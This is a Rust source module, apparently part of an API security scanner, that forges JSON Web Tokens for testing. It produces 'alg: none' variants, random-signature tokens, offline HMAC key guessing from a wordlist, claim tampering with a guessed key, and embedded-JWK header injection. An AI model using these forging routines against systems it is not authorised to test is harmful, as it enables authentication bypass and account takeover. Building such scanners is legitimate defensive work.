//! Forged tokens, encoded by hand: a library rightly refuses to make them. Forged only for identities that the user
//! owns, from their own tokens.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use jsonwebtoken::crypto;
use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey};
use rand::Rng as _;
use serde_json::{Map, Value, json};

use crate::detect::jwt::Jwt;
use crate::model::Secret;

/// A key that was guessed offline.
#[derive(Debug, Clone)]
pub struct SigningKey {
    /// The key itself.
    pub key: Secret,
    /// Which algorithm it signs.
    pub algorithm: Algorithm,
}

/// The token with a signature of random bytes of the same length.
pub(crate) fn random_signature(jwt: &Jwt) -> Secret {
    let mut signature = vec![0_u8; jwt.signature.len().max(32)];
    rand::rng().fill_bytes(&mut signature);
    Secret::new(format!("{}.{}", jwt.signing_input(), URL_SAFE_NO_PAD.encode(signature)))
}

/// The token unsigned, `alg` in the spellings that naive verifiers let through; the trailing dot stays (RFC 7519 §6.1).
pub(crate) fn unsigned_tokens(jwt: &Jwt) -> Vec<(&'static str, Secret)> {
    ["none", "None", "NONE", "nOnE"]
        .into_iter()
        .map(|spelling| {
            let mut header = jwt.header.clone();
            if let Some(fields) = header.as_object_mut() {
                fields.insert("alg".to_owned(), json!(spelling));
            }
            (spelling, Secret::new(format!("{}.{}.", encode_part(&header), encode_part(&jwt.payload))))
        })
        .collect()
}

/// The claims signed with a guessed key, some of them changed.
pub(crate) fn sign_token(jwt: &Jwt, key: &SigningKey, changes: &[(&str, Value)]) -> Option<Secret> {
    let mut payload: Map<String, Value> = jwt.payload.as_object()?.clone();
    for (name, value) in changes {
        payload.insert((*name).to_owned(), value.clone());
    }
    sign_claims(jwt, key, &payload)
}

/// Other claims under the token's own header, signed with a guessed key.
pub(crate) fn sign_claims(jwt: &Jwt, key: &SigningKey, claims: &Map<String, Value>) -> Option<Secret> {
    let signing = EncodingKey::from_secret(key.key.expose().as_bytes());
    sign_parts(&jwt.header, &Value::Object(claims.clone()), (&signing, key.algorithm))
}

/// The token's own claims signed by HS256 with these bytes; some members of its header are changed.
pub(crate) fn sign_as(jwt: &Jwt, header: &[(&str, Value)], key: &[u8]) -> Option<Secret> {
    let header = changed_header(jwt, "HS256", header)?;
    sign_parts(&header, &jwt.payload, (&EncodingKey::from_secret(key), Algorithm::HS256))
}

/// A key pair that serves as the scan's own: it is public with the scanner, and opens nothing that is sound.
const OWN_KEY: &str = include_str!("own_key.txt");
/// The modulus of its public part, as a JWK has it.
const OWN_MODULUS: &str = include_str!("own_modulus.txt");
/// What signs tokens that bring a shared key along.
const OWN_SECRET: &[u8] = b"routewarden-own-secret-of-32-bytes";

/// The token's own claims signed by RS256 with the scan's own key, whose public part is in the header.
pub(crate) fn sign_with_own_key(jwt: &Jwt) -> Option<Secret> {
    let jwk = json!({"kty": "RSA", "kid": "rw", "use": "sig", "e": "AQAB", "n": OWN_MODULUS.trim()});
    let header = changed_header(jwt, "RS256", &[("kid", json!("rw")), ("jwk", jwk)])?;
    let key = EncodingKey::from_rsa_der(&STANDARD.decode(OWN_KEY.trim()).ok()?);
    sign_parts(&header, &jwt.payload, (&key, Algorithm::RS256))
}

/// The token's own claims signed by HS256 with a secret that the header brings along.
pub(crate) fn sign_with_own_secret(jwt: &Jwt) -> Option<Secret> {
    let jwk = json!({"kty": "oct", "kid": "rw", "k": URL_SAFE_NO_PAD.encode(OWN_SECRET)});
    sign_as(jwt, &[("kid", json!("rw")), ("jwk", jwk)], OWN_SECRET)
}

fn changed_header(jwt: &Jwt, algorithm: &str, changes: &[(&str, Value)]) -> Option<Value> {
    let mut header = jwt.header.as_object()?.clone();
    header.insert("alg".to_owned(), json!(algorithm));
    header.extend(changes.iter().map(|(name, value)| ((*name).to_owned(), value.clone())));
    Some(Value::Object(header))
}

fn sign_parts(header: &Value, payload: &Value, (key, algorithm): (&EncodingKey, Algorithm)) -> Option<Secret> {
    let input = format!("{}.{}", encode_part(header), encode_part(payload));
    let signature = crypto::sign(input.as_bytes(), key, algorithm).ok()?;
    Some(Secret::new(format!("{input}.{signature}")))
}

fn encode_part(value: &Value) -> String {
    URL_SAFE_NO_PAD.encode(value.to_string())
}

/// Common keys, one a line: framework defaults, documentation samples, everyday words.
const WORDS: &str = include_str!("words.txt");

/// Guesses the HMAC key of a token offline, on all cores; `more` are words of this API (its title, host and the like).
/// Sends nothing; a match is proof by itself.
pub(crate) fn guess_key(jwt: &Jwt, more: &[String]) -> Option<SigningKey> {
    let algorithm = match jwt.algorithm()? {
        "HS256" => Algorithm::HS256,
        "HS384" => Algorithm::HS384,
        "HS512" => Algorithm::HS512,
        _ => return None,
    };
    let signature = URL_SAFE_NO_PAD.encode(&jwt.signature);
    let candidates: Vec<&str> = WORDS.lines().chain(more.iter().map(String::as_str)).chain([""]).collect();
    let n_threads = std::thread::available_parallelism().map_or(1, std::num::NonZero::get).min(8);
    let input = jwt.signing_input().as_bytes();
    let found = std::thread::scope(|scope| {
        let share = candidates.len().div_ceil(n_threads).max(1);
        let workers: Vec<_> = candidates
            .chunks(share)
            .map(|words| {
                let signature = &signature;
                scope
                    .spawn(move || words.iter().find(|word| is_signing_key(signature, input, word, algorithm)).copied())
            })
            .collect();
        workers.into_iter().filter_map(|worker| worker.join().ok().flatten()).next()
    });
    found.map(|word| SigningKey { key: Secret::new(word), algorithm })
}

fn is_signing_key(signature: &str, input: &[u8], word: &str, algorithm: Algorithm) -> bool {
    crypto::verify(signature, input, &DecodingKey::from_secret(word.as_bytes()), algorithm).unwrap_or(false)
}
